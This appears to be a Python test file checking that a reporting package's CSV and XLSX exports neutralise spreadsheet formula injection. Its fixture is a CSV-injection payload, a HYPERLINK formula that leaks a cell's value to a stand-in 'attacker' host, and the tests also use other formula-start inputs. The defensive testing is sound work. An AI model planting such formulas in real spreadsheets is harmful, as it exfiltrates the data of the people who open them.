"""Exported cells never start a formula: CSV injection (`=HYPERLINK(...)`) is neutralised."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from uponyaji_reporting.spreadsheet import neutral
from uponyaji_reporting.views import csv_text, rows
from uponyaji_reporting.xlsx import workbook

EVIL = '=HYPERLINK("http://attacker/?leak="&A1,"Click")'  # no dot: labels split at dots
BOARD = {"by_county": {EVIL: 7, "047": 12}, "cases": {"open": -3}}


def test_csv_cells_that_would_run_a_formula_are_text() -> None:
    table = list(csv.reader(io.StringIO(csv_text(BOARD))))
    labels = [row[1] for row in table]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    assert ["cases", "open", "-3"] in table  # a negative number is a number, not a formula


def test_xlsx_cells_that_would_run_a_formula_are_text() -> None:
    data = workbook([("table", "row", "value"), *rows(BOARD)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
    assert "<f>" not in sheet
    assert "<t>=HYPERLINK" not in sheet


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert neutral(value) == "'" + value


@pytest.mark.parametrize("value", ["Nairobi", "<5", "-3", "-0.5", "12", ""])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert neutral(value) == value
